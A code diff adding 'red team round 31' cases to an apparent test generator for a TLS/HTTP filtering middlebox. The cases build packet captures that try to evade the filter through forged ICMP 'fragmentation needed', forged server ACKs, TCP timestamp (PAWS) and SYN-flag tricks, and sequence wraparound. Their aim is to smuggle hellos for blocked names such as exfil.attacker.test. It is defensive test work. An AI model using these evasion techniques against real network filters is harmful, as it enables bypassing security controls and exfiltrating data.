@@ -24801,6 +24801,385 @@ def case_rt30r_reorder_ok(n):
     return cap, {"pass": [passm(n)]}
 
 
+# ------------------------------------------------ red team round 31 (rt31)
+# Bytes the server never got that no mark says so: a loss past us that the sender
+# chooses (a DF segment larger than the uplink's MTU, ICMP "fragmentation needed"), then
+# an answer forged from outside (an accomplice told the sequence numbers) that ends the
+# comparison, then other bytes at the lost copy's place.
+
+def _rt31_icmp_mtu(cap, t, src, dst, cport, dport, base, plen):
+    """A router past us (the zone's gateway) answers a DF segment of plen bytes with
+    "fragmentation needed, MTU 1492"."""
+    quoted = bytes(IP(src=src, dst=dst, flags="DF", len=40 + plen) /
+                   TCP(sport=cport, dport=dport, seq=base, ack=t.sseq, flags="PA"))[:28]
+    rtr = src.rsplit(".", 2)[0] + ".0.1"
+    cap.emit(l2(rtr, src) / IP(src=rtr, dst=src) / ICMP(type=3, code=4, nexthopmtu=1492) /
+             Raw(quoted), 2000)
+
+
+def _rt31_padded(seed, sni, sid, total=1460):
+    base = record(22, hs_client_hello(seed, sni=sni, sid=sid, extra=[ext(21, b"")]))
+    return record(22, hs_client_hello(seed, sni=sni, sid=sid,
+                                      extra=[ext(21, b"\x00" * (total - len(base)))]))
+
+
+def _rt31_pmtu_tls(n, src, dst, cport, isn, decoy_name, real_name, forge, same=False):
+    """A ClientHello for decoy_name padded to one full-size DF segment, which the uplink
+    past us (MTU 1492) drops; where forge, an accomplice outside forges the server's
+    flight (its ACK acknowledges none of the hello: no byte is zeroed); the client then
+    sends a hello of the same length for real_name at its place in two smaller segments,
+    a marker in its session id; the server reads it and answers."""
+    cap = Capture()
+    t = ETcp(cap, src, cport, dst, 443, isn=isn, rtt_us=20000)
+    t.handshake()
+    decoy = _rt31_padded(n + "d", decoy_name, None)
+    real = decoy if same else _rt31_padded(n + "r", real_name, sid32(leak(n)))
+    assert len(real) == len(decoy) == 1460
+    base = t.cseq
+    t.raw(True, "PA", decoy, seq=base, ipkw={"flags": "DF"})
+    _rt31_icmp_mtu(cap, t, src, dst, cport, 443, base, 1460)
+    fl = server_hello_flight(n)
+    if forge:
+        t.raw(False, "PA", fl, ack=base, gap=5000)
+    t.raw(True, "PA", real[:1400], seq=base, ipkw={"flags": "DF"}, gap=30000)
+    t.raw(True, "PA", real[1400:], seq=base + 1400, ipkw={"flags": "DF"})
+    t.cseq = base + len(real)
+    if forge:
+        t.raw(False, "A")
+        t.sseq += len(fl)
+    else:
+        t.ack(False)
+        t.data(False, fl)
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    mark = passm(n) if same else b"after" + leak(n)
+    t.data(True, marked_record(mark, n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap
+
+
+@case
+def case_rt31_pmtu_forged_vk(n):
+    """Office: a ClientHello for ex.a.org in one 1460-byte DF segment: read, allowed
+    (default), passed on, and dropped by the uplink past us (MTU 1492). No mark says
+    its bytes are unsent. An accomplice outside forges the server's flight (ACK of
+    none of the hello): the first-bytes slot goes. The client sends a hello for
+    m.vk.com at its place in two smaller segments: old bytes to us, the server's first."""
+    return _rt31_pmtu_tls(n, O1, SOC, 60000, 0x600000, RT_DECOY, VK, True), {"leak": [leak(n)]}
+
+
+@case
+def case_rt31_pmtu_forged_e2m(n):
+    """rt31_pmtu_forged_vk in the strict zone: an e2m hello lost past us, a forged server
+    flight, then a hello for exfil.attacker.test at its place (the same length: the
+    record header and the handshake type the header log compares are the same)."""
+    return (_rt31_pmtu_tls(n, S1, E2M, 60001, 0x600100, E2M_NAME, EVIL, True),
+            {"leak": [leak(n)]})
+
+
+@case
+def case_rt31_pmtu_e2m_ok(n):
+    """Must-allow twin: an e2m hello in one DF segment dropped past us, ICMP
+    fragmentation needed, the same bytes again in two smaller segments (RFC 1191), the
+    server's answer: allowed."""
+    return (_rt31_pmtu_tls(n, S1, E2M, 60002, 0x600200, E2M_NAME, None, False, same=True),
+            {"pass": [passm(n)]})
+
+
+@case
+def case_rt31_http_pmtu_forged_vk(n):
+    """Office HTTP (rtk2_pmtu_decoy_vk on a new connection): a first request for
+    www.example.org padded to one 1460-byte DF segment, dropped by the uplink past us;
+    an accomplice outside forges the server's ACK of it (the request log lets go of
+    it); a GET for m.vk.com of the same length at its place in two segments."""
+    cap = Capture()
+    t = ETcp(cap, O1, 60003, SOC, 80, isn=0x600300, rtt_us=20000)
+    t.handshake()
+    real = _rtk_vk_req(n)
+    real = real[:-2] + b"X-Pad: " + b"q" * (1460 - len(real) - 9) + b"\r\n\r\n"
+    decoy = b"GET /feed HTTP/1.1\r\nHost: www.example.org\r\n\r\n"
+    decoy = decoy[:-2] + b"X-Pad: " + b"p" * (1460 - len(decoy) - 9) + b"\r\n\r\n"
+    assert len(real) == len(decoy) == 1460
+    base = t.cseq
+    t.raw(True, "PA", decoy, seq=base, ipkw={"flags": "DF"})
+    _rt31_icmp_mtu(cap, t, O1, SOC, 60003, 80, base, 1460)
+    t.raw(False, "A", ack=base + 1460, gap=5000)
+    t.raw(True, "PA", real[:1400], seq=base, ipkw={"flags": "DF"}, gap=30000)
+    t.raw(True, "PA", real[1400:], seq=base + 1400, ipkw={"flags": "DF"})
+    t.cseq = base + len(real)
+    t.raw(False, "A")
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+
+def _rt31_http_head17(t):
+    """rt30_http_unheld_rewrite's head: a request line, 18 header lines of 300 bytes,
+    Host: www.example.org; returns (head, offset of the 17th segment)."""
+    line = b"GET / HTTP/1.1\r\n"
+    hdrs = [b"X-Pad-%02d: " % i for i in range(18)]
+    hdrs = [x + b"a" * (298 - len(x)) + b"\r\n" for x in hdrs]
+    head = line + b"".join(hdrs) + b"Host: www.example.org\r\n\r\n"
+    base = t.cseq
+    t.raw(True, "PA", line, seq=base, gap=50)
+    at = len(line)
+    for x in hdrs[:17]:
+        t.raw(True, "PA", x, seq=base + at, gap=50)
+        at += len(x)
+    t.raw(True, "PA", head[at:], seq=base + at, gap=50)
+    t.cseq = base + len(head)
+    return head, len(line) + 16 * 300
+
+
+@case
+def case_rt31_http_done_pipe_vk(n):
+    """Office HTTP: a head whose 17th segment finds no hold slot (read and dropped,
+    unsent): the head is read whole, its slot kept and read no more (STREAM_HTTP_DONE).
+    Right behind it, before the 17th comes again, a second pipelined request for
+    m.vk.com (a marker in it); then the 17th again, the same bytes: the server reads
+    both requests."""
+    cap = Capture()
+    t = ETcp(cap, O1, 60010, SOC, 80, isn=0x601000, rtt_us=20000)
+    t.handshake()
+    base = t.cseq
+    head, at17 = _rt31_http_head17(t)
+    t.raw(False, "A", ack=base + at17)
+    t.data(True, _rtk_vk_req(n))
+    t.raw(True, "PA", head[at17:at17 + 300], seq=base + at17, gap=200)
+    t.raw(False, "A")
+    _ok_answer(t, n, mark=False)
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)], "counters": ["hello_unheld>=1"]}
+
+
+@case
+def case_rt31_http_done_pipe_ok(n):
+    """Must-allow twin: the same head (17th unheld, sent again the same), then a second
+    request for www.example.org (a marker in its answer): both answered."""
+    cap = Capture()
+    t = ETcp(cap, O1, 60011, SOC, 80, isn=0x601100, rtt_us=20000)
+    t.handshake()
+    base = t.cseq
+    head, at17 = _rt31_http_head17(t)
+    t.raw(False, "A", ack=base + at17)
+    t.data(True, b"GET /2 HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n")
+    t.raw(True, "PA", head[at17:at17 + 300], seq=base + at17, gap=200)
+    t.raw(False, "A")
+    _ok_answer(t, n, mark=False)
+    _ok_answer(t, n)
+    t.close()
+    return cap, {"pass": [passm(n)], "counters": ["hello_unheld>=1"]}
+
+
+class _Rt31WrapTcp(ETcp):
+    """ETcp whose sequence and acknowledgement numbers wrap at 2^32."""
+
+    def raw(self, from_client, flags, payload=b"", seq=None, ack=None, **kw):
+        seq = (self.cseq if from_client else self.sseq) if seq is None else seq
+        ack = (self.sseq if from_client else self.cseq) if ack is None else ack
+        super().raw(from_client, flags, payload, seq=seq & 0xffffffff, ack=ack & 0xffffffff, **kw)
+
+    def frame(self, from_client, flags, payload=b"", seq=None, ack=None, **kw):
+        seq = (self.cseq if from_client else self.sseq) if seq is None else seq
+        ack = (self.sseq if from_client else self.cseq) if ack is None else ack
+        return super().frame(from_client, flags, payload, seq=seq & 0xffffffff,
+                             ack=ack & 0xffffffff, **kw)
+
+
+def _rt31_unheld(cap, n, cport, isn, h, resend):
+    """_rt30_unheld on a connection whose numbers wrap."""
+    t = _Rt31WrapTcp(cap, S1, cport, E2M, 443, isn=isn, rtt_us=20000)
+    t.sseq = 0x31313131
+    t.handshake()
+    base = t.cseq
+    cut = 17 * 300
+    for i in range(0, cut, 300):
+        t.raw(True, "PA", h[i:i + 300], seq=base + i, gap=50)
+    t.raw(True, "PA", h[cut:], seq=base + cut, gap=50)
+    t.cseq = base + len(h)
+    t.raw(False, "A", ack=base + 16 * 300)
+    t.raw(True, "PA", resend, seq=base + 16 * 300, gap=200)
+    t.ack(False)
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    return t
+
+
+@case
+def case_rt31_wrap_unheld_rewrite(n):
+    """rt30_hello_unheld_rewrite with the client's first sequence number 2^32 - 4900: the
+    17th segment (read and dropped, unsent) straddles the wrap of the sequence space;
+    sent again with other bytes after the verdict. Must be compared and refused."""
+    cap = Capture()
+    h = _rt30_pad_hello(n, 5500)
+    seg = bytearray(h[16 * 300:17 * 300])
+    seg[100:100 + len(leak(n))] = leak(n)
+    t = _rt31_unheld(cap, n, 60012, (1 << 32) - 4900, h, bytes(seg))
+    t.data(True, marked_record(b"after" + leak(n), n + "req"))
+    t.close()
+    return cap, {"leak": [leak(n)], "counters": ["hello_unheld>=1"]}
+
+
+@case
+def case_rt31_wrap_unheld_ok(n):
+    """Must-allow twin: rt30_hello_unheld_resend_ok across the wrap (first sequence
+    number 2^32 - 4900): the 17th sent again the same."""
+    cap = Capture()
+    h = _rt30_pad_hello(n, 5500)
+    t = _rt31_unheld(cap, n, 60013, (1 << 32) - 4900, h, h[16 * 300:17 * 300])
+    t.data(True, marked_record(passm(n), n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"pass": [passm(n)], "counters": ["hello_unheld>=1"]}
+
+
+
+def _rt31_ts(tv, te):
+    return [("NOP", None), ("NOP", None), ("Timestamp", (tv, te))]
+
+
+def _rt31_paws_flow(n, src, dst, cport, isn, decoy_name, real_name, clear_tv):
+    """rt30r_unheld_ttl_clear_vk with timestamps on (RFC 7323): both sides stamp every
+    segment, the client's clock at 1000 + 10 a segment. The hello (for decoy_name, its
+    name in the 17th segment, read and dropped: unsent) is allowed; the server
+    acknowledges the first 16 and the accomplice outside forges its flight; the client
+    sends the 17th again, the same bytes, stamped clear_tv; then (where real_name) the
+    17th again naming real_name with a fresh stamp. With clear_tv older than the
+    client's newest stamp the server drops that copy (PAWS, RFC 7323 5.3)."""
+    cap = Capture()
+    t = ETcp(cap, src, cport, dst, 443, isn=isn, rtt_us=20000)
+    ck = [1000]
+    sv = [7000]
+
+    def c(flags, payload=b"", tv=None, **kw):
+        if tv is None:
+            ck[0] += 10
+            tv = ck[0]
+        t.raw(True, flags, payload, options=_rt31_ts(tv, sv[0]), **kw)
+
+    def s(flags, payload=b"", **kw):
+        sv[0] += 10
+        t.raw(False, flags, payload, options=_rt31_ts(sv[0], ck[0]), **kw)
+
+    t.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (ck[0], 0)),
+                              ("NOP", None), ("WScale", 7)])
+    t.cseq += 1
+    t.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (sv[0], ck[0])),
+                                ("NOP", None), ("WScale", 7)])
+    t.sseq += 1
+    c("A")
+    d = _rt30x_late_sni_hello(n, decoy_name, 5500, 4950)
+    base = t.cseq
+    for i in range(0, 17 * 300, 300):
+        c("PA", d[i:i + 300], seq=base + i, gap=50)
+    c("PA", d[17 * 300:], seq=base + 17 * 300, gap=50)
+    t.cseq = base + len(d)
+    s("A", ack=base + 16 * 300)
+    sh = server_hello_flight(n)
+    s("PA", sh, ack=base + 16 * 300)
+    t.sseq += len(sh)
+    c("PA", d[16 * 300:17 * 300], seq=base + 16 * 300, tv=clear_tv, gap=100)
+    if real_name is None:
+        s("A")
+    else:
+        s("PA", b"\x17\x03\x03\x00\x05" + b"12345", ack=base + 16 * 300)
+        t.sseq += 10
+        h = _rt30x_late_sni_hello(n, real_name, 5500, 4950, mark=leak(n))
+        c("PA", h[16 * 300:17 * 300], seq=base + 16 * 300, gap=200)
+        s("A")
+    fin = CCS + tls_appdata(n + "fin", 53)
+    c("PA", fin)
+    t.cseq += len(fin)
+    s("A")
+    rec = marked_record(b"after" + leak(n) if real_name else passm(n), n + "req")
+    c("PA", rec)
+    t.cseq += len(rec)
+    s("A")
+    if real_name is None:
+        resp = tls_appdata(n + "resp", 400)
+        s("PA", resp)
+        t.sseq += len(resp)
+        c("A")
+    c("FA")
+    t.cseq += 1
+    s("FA")
+    t.sseq += 1
+    c("A")
+    return cap
+
+
+@case
+def case_rt31_paws_clear_vk(n):
+    """Office, timestamps on: rt30r_unheld_ttl_clear_vk with the clearing copy of the
+    17th segment stamped 1005 (after the SYN's 1000, before the 1180 of the client's
+    newest): its server drops it (PAWS); an undecided-then-allowed office flow notes no
+    data segment's stamp, so to us it is taken, and the unsent bits go. A forged
+    server record closes the slot; the 17th again names m.vk.com."""
+    return (_rt31_paws_flow(n, O1, SOC, 60020, 0x602000, RT_DECOY, VK, 1005),
+            {"leak": [leak(n)], "counters": ["hello_unheld>=1"]})
+
+
+@case
+def case_rt31_paws_clear_e2m(n):
+    """rt31_paws_clear_vk in the strict zone (a checked flow): the e2m hello, the
+    clearing copy stamped 1005, the 17th again naming exfil.attacker.test."""
+    return (_rt31_paws_flow(n, S1, E2M, 60021, 0x602100, E2M_NAME, EVIL, 1005),
+            {"leak": [leak(n)], "counters": ["hello_unheld>=1"]})
+
+
+@case
+def case_rt31_paws_resend_ok(n):
+    """Must-allow twin: timestamps on, an e2m hello whose 17th segment is unheld; sent
+    again the same with a fresh stamp, the server answers: allowed."""
+    return (_rt31_paws_flow(n, S1, E2M, 60022, 0x602200, E2M_NAME, None, None),
+            {"pass": [passm(n)], "counters": ["hello_unheld>=1"]})
+
+
+
+def _rt31_flag_clear(n, cport, isn, flags, real_name=VK):
+    """rt30r_unheld_ttl_clear_vk with the clearing copy of the 17th segment sent with
+    other TCP flags (same bytes, right sum, ACK of the server's next byte): a receiver
+    in ESTABLISHED discards data on a SYN (challenge ACK, RFC 5961 4) or on a RST."""
+    cap = Capture()
+    d = _rt30x_late_sni_hello(n, RT_DECOY, 5500, 4950)
+    h = _rt30x_late_sni_hello(n, real_name, 5500, 4950, mark=leak(n))
+    t = ETcp(cap, O1, cport, SOC, 443, isn=isn, rtt_us=20000)
+    t.handshake()
+    base = t.cseq
+    for i in range(0, 17 * 300, 300):
+        t.raw(True, "PA", d[i:i + 300], seq=base + i, gap=50)
+    t.raw(True, "PA", d[17 * 300:], seq=base + 17 * 300, gap=50)
+    t.cseq = base + len(d)
+    t.raw(False, "A", ack=base + 16 * 300)
+    sh = server_hello_flight(n)
+    t.raw(False, "PA", sh, ack=base + 16 * 300)
+    t.sseq += len(sh)
+    t.raw(True, flags, d[16 * 300:17 * 300], seq=base + 16 * 300, gap=100)
+    t.raw(False, "PA", b"\x17\x03\x03\x00\x05" + b"12345", ack=base + 16 * 300)
+    t.sseq += 10
+    t.raw(True, "PA", h[16 * 300:17 * 300], seq=base + 16 * 300, gap=200)
+    t.raw(False, "A")
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(b"after" + leak(n), n + "req"))
+    t.close()
+    return cap
+
+
+@case
+def case_rt31_syn_clear_vk(n):
+    """Office: the clearing copy of the unheld 17th segment carries SYN with its ACK
+    (flags SYN|ACK|PSH): its server, established, answers a challenge ACK and discards
+    it. The office takes such a copy as an exception it allows (forwarded), and to
+    judge_slot_sent it is a copy its receiver takes (judge_discardable looks at no
+    SYN): the unsent bits go. A forged server record closes the slot; the 17th again
+    names m.vk.com."""
+    return _rt31_flag_clear(n, 60030, 0x603000, "SPA"), {"leak": [leak(n)],
+                                                         "counters": ["hello_unheld>=1"]}
+
+
+
 def main(argv):
     if len(argv) >= 2 and argv[1] == "--list":
         print("\n".join(CASES))
